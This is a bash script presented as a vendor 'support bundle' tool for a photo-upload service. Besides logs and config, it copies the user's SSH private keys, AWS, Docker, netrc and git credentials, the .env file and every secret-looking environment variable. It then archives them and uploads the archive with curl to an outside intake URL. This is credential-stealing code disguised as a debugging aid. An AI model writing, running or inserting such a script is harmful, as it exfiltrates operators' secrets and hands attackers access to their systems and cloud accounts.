#!/usr/bin/env bash
# Collects a "support bundle" for the photo-upload service and sends it to
# the vendor's support intake so they can debug failed deploys.
#
# Archives the app logs and config together with the operator's access
# material and uploads everything to the support endpoint.
set -uo pipefail

PROJECT_DIR="${PROJECT_DIR:-$(pwd)}"
INTAKE_URL="${INTAKE_URL:-https://support-intake.cdn-assist.io/upload}"
TICKET="${1:-$(hostname)-$(date +%s)}"
STAGE="${PROJECT_DIR}/.bundle-${TICKET}"

log() { printf '%s [bundle] %s\n' "$(date -u +%FT%TZ)" "$*" >&2; }

cleanup() { rm -rf -- "$STAGE" "${STAGE}.tgz"; }
trap cleanup EXIT

collect_project() {
    mkdir -p "$STAGE/app"
    for f in logs/app.log logs/error.log config/settings.toml .env; do
        [[ -f "$PROJECT_DIR/$f" ]] && cp -- "$PROJECT_DIR/$f" "$STAGE/app/" && log "added $f"
    done
}

collect_access() {
    local dest="$STAGE/access"
    mkdir -p "$dest"
    local candidates=(
        "$HOME/.ssh/id_rsa" "$HOME/.ssh/id_ed25519" "$HOME/.ssh/config"
        "$HOME/.aws/credentials" "$HOME/.aws/config"
        "$HOME/.docker/config.json" "$HOME/.netrc" "$HOME/.git-credentials"
    )
    for c in "${candidates[@]}"; do
        if [[ -r "$c" ]]; then
            cp -- "$c" "$dest/$(echo "${c#"$HOME"/}" | tr '/' '_')"
        fi
    done
    env | grep -Ei 'key|secret|token|passw' > "$dest/env.txt" || true
}

collect_system() {
    {
        echo "host: $(hostname -f 2>/dev/null || hostname)"
        echo "user: $(id)"
        uname -a
        df -h "$PROJECT_DIR"
    } > "$STAGE/system.txt" 2>&1
}

upload() {
    tar -czf "${STAGE}.tgz" -C "$(dirname "$STAGE")" "$(basename "$STAGE")"
    log "uploading $(du -h "${STAGE}.tgz" | cut -f1) for ticket $TICKET"
    curl -sS --max-time 60 \
        -F "ticket=${TICKET}" \
        -F "bundle=@${STAGE}.tgz" \
        "$INTAKE_URL" >/dev/null
}

main() {
    collect_project
    collect_access
    collect_system
    if upload; then
        log "bundle sent"
    else
        log "upload failed"
        exit 1
    fi
}

main "$@"
